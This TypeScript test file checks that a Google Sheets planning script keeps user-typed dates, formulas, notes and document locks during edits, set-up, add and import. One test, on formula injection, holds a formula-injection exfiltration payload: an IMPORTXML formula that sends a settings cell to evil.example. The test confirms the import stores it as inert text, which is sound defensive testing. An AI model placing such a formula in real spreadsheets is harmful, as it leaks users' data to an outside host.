// Issue 11's cases of data loss, each a fixed test: onEdit, set-up, import, add and the example keep what users typed.
import { describe, expect, it } from "vitest";
import { paste, sheet, type Workbook, workbook } from "../support/workbook";

/** A plan set up on 15 Oct 2025 (period VT 2025–HT 2028), Activities as the tab to type into. */
function planned(): Workbook {
  const wb = workbook({ now: "2025-10-15" });
  wb.ctx.setUpPlan();
  return wb;
}

/** Types entries one by one as a user does, each followed by onEdit; all must be accepted. */
function type(wb: Workbook, tab: string, entries: Record<string, string>): void {
  for (const [a1, value] of Object.entries(entries)) {
    expect(wb.emu.userEdit(wb.load(), tab, a1, value), `${tab}!${a1}`).toMatchObject({ accepted: true });
  }
}

/** Cells as shown, A1 → display value. */
function shown(wb: Workbook, tab: string, cells: readonly string[]): Record<string, string> {
  const s = sheet(wb, tab);
  return Object.fromEntries(cells.map((a1) => [a1, s.getRange(a1).getDisplayValue()]));
}

describe("onEdit on Termin and När (case 1)", () => {
  it("keeps hand-typed Start and End when a Term is picked on a row with a blank När", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { C2: "2025-11-02", D2: "2025-11-04", E2: "Kurs" });
    type(wb, "Aktiviteter", { A2: "HT 2025" });
    expect(shown(wb, "Aktiviteter", ["C2", "D2"])).toEqual({ C2: "2025-11-02", D2: "2025-11-04" });
  });

  it("keeps typed dates when När can't be read, and the user's own note on När", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { A2: "HT 2025", C2: "2025-11-02", D2: "2025-11-04", E2: "Kurs" });
    sheet(wb, "Aktiviteter").getRange("B2").setNote("Ring Anna först");
    type(wb, "Aktiviteter", { B2: "enligt överenskommelse" });
    expect(shown(wb, "Aktiviteter", ["C2", "D2"])).toEqual({ C2: "2025-11-02", D2: "2025-11-04" });
    expect(sheet(wb, "Aktiviteter").getRange("B2").getNote()).toBe("Ring Anna först");
  });

  it("keeps a user's formula in End while it fills an empty Start", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { A2: "HT 2025", D2: "=C2+2", E2: "Kurs", B2: "1 okt" });
    expect(sheet(wb, "Aktiviteter").getRange("D2").getFormula()).toBe("=C2+2");
    expect(shown(wb, "Aktiviteter", ["C2", "D2"])).toEqual({ C2: "2025-10-01", D2: "2025-10-03" });
  });

  it("finds Start and End by their headers after a column is inserted left of Termin, never writing over När", () => {
    const wb = planned();
    sheet(wb, "Aktiviteter").insertColumnBefore(1);
    type(wb, "Aktiviteter", { A2: "min egen", B2: "HT 2025", C2: "sep", F2: "Kurs" });
    expect(shown(wb, "Aktiviteter", ["A2", "B2", "C2", "D2", "E2"])).toEqual({
      A2: "min egen",
      B2: "HT 2025",
      C2: "sep",
      D2: "2025-09-01",
      E2: "2025-09-30",
    });
  });

  it("keeps typed dates when Term and När of two rows are deleted together", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { A2: "HT 2025", A3: "HT 2025", B2: "sep", B3: "okt", E2: "Kurs", E3: "Möte" });
    type(wb, "Aktiviteter", { C2: "2025-09-10", D3: "2025-10-20" });
    paste(wb, "Aktiviteter", "A2", [
      ["", ""],
      ["", ""],
    ]);
    expect(shown(wb, "Aktiviteter", ["C2", "D3"])).toEqual({ C2: "2025-09-10", D3: "2025-10-20" });
  });
});

describe("set up over typed cells (cases 2, 6, 15)", () => {
  it("keeps text typed with an apostrophe as text, and a user's header formula as a formula", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { E2: "'=Räknar", F2: "'2025", G2: "'10%", J1: '="Anteckning "&"2025"' });
    wb.load().setUpPlan();
    const activities = sheet(wb, "Aktiviteter");
    expect(activities.getRange("E2:G2").getValues()[0]).toEqual(["=Räknar", "2025", "10%"]);
    expect(activities.getRange("E2:G2").getFormulas()[0]).toEqual(["", "", ""]);
    expect(activities.getRange("J1").getFormula()).toBe('="Anteckning "&"2025"');
  });

  it("keeps a date typed into I dag (används), and the example never replaces a typed plan period", () => {
    const wb = planned();
    type(wb, "Inställningar", { B6: "2025-01-01", B3: "VT 2024", B4: "HT 2025" });
    wb.load().setUpPlan();
    wb.load().insertExamplePlan();
    expect(shown(wb, "Inställningar", ["B3", "B4", "B6"])).toEqual({
      B3: "VT 2024",
      B4: "HT 2025",
      B6: "2025-01-01",
    });
  });

  it("takes a header row moved right by an inserted column as the header: no second header row", () => {
    const wb = planned();
    type(wb, "Aktiviteter", { A2: "HT 2025", B2: "sep", E2: "Kurs" });
    const activities = sheet(wb, "Aktiviteter");
    activities.insertColumnBefore(1);
    const result = wb.load().setUpPlan() as { done: string[] };
    expect(activities.getRange("B1:C1").getValues()[0]).toEqual(["Termin", "När"]);
    expect(activities.getRange("B2:C2").getValues()[0]).toEqual(["HT 2025", "sep"]);
    expect(result.done.join("\n")).not.toMatch(/rubrikrad/);
  });
});

describe("add and import below filled-down formulas (case 5)", () => {
  function filledDown(): Workbook {
    const wb = planned();
    type(wb, "Aktiviteter", { A2: "HT 2025", B2: "sep", E2: "Kurs", G2: "Anna" });
    for (const row of [3, 4, 5]) type(wb, "Aktiviteter", { [`G${row}`]: `=IF(E${row}="";"";"Kansliet")` });
    return wb;
  }

  it("add writes the new row around the user's formula, which then shows its value", () => {
    const wb = filledDown();
    const added = wb.emu.runFromSidebar(wb.load(), "addActivity", [
      { term: "HT 2025", when: "nov", what: "Medlemsmöte", targetGroup: "", owner: "" },
    ]);
    expect(added).toMatchObject({ ok: true, value: { row: 3 } });
    expect(sheet(wb, "Aktiviteter").getRange("G3").getFormula()).toBe('=IF(E3="","","Kansliet")');
    expect(shown(wb, "Aktiviteter", ["E3", "G3"])).toEqual({ E3: "Medlemsmöte", G3: "Kansliet" });
  });

  it("import does the same for every row", () => {
    const wb = filledDown();
    const text = "HT 2025\nOkt\tJulfest\tAlla\t\t\nNov\tStämma\tAlla\t\t";
    expect(wb.emu.runFromSidebar(wb.load(), "importActivityTable", [text])).toMatchObject({
      ok: true,
      value: { imported: 2 },
    });
    expect(sheet(wb, "Aktiviteter").getRange("G3:G4").getFormulas()).toEqual([
      ['=IF(E3="","","Kansliet")'],
      ['=IF(E4="","","Kansliet")'],
    ]);
  });
});

describe("shared editing (case 7)", () => {
  it("set up and add wait for the document lock, writing nothing while another holds it", () => {
    const wb = workbook({ now: "2025-10-15" });
    const release = wb.emu.holdLock("document");
    wb.ctx.setUpPlan();
    expect(wb.ss.getSheets().map((s) => s.getName())).toEqual(["Blad1"]);
    expect(wb.emu.ui.alerts.at(-1)?.prompt).toMatch(/någon annan|annan/i);
    release();
    wb.load().setUpPlan();
    const held = wb.emu.holdLock("document");
    const added = wb.emu.runFromSidebar(wb.load(), "addActivity", [
      { term: "HT 2025", when: "nov", what: "Möte", targetGroup: "", owner: "" },
    ]);
    held();
    expect(added.ok).toBe(false);
    expect(sheet(wb, "Aktiviteter").getLastRow()).toBe(1);
  });
});

describe("formula injection through När (case 8)", () => {
  it("imports a formula-looking När as text into an Activities tab whose plain-text format was cleared", () => {
    const wb = planned();
    sheet(wb, "Aktiviteter").clearFormats();
    const when = '=IMPORTXML("http://evil.example/?q="&Inställningar!B2;"//a")';
    const text = `HT 2025\n${when}\tKurs\tAlla\t\t`;
    expect(wb.emu.runFromSidebar(wb.load(), "importActivityTable", [text])).toMatchObject({ ok: true });
    const cell = sheet(wb, "Aktiviteter").getRange("B2");
    expect(cell.getFormula()).toBe("");
    expect(cell.getValue()).toBe(when);
  });
});

describe("onEdit run from the script editor (case 12)", () => {
  it("has no event, so does nothing, and throws nothing", () => {
    const wb = planned();
    expect(() => wb.load().onEdit()).not.toThrow();
    expect(wb.emu.console.filter((r) => r.level === "error")).toEqual([]);
  });
});
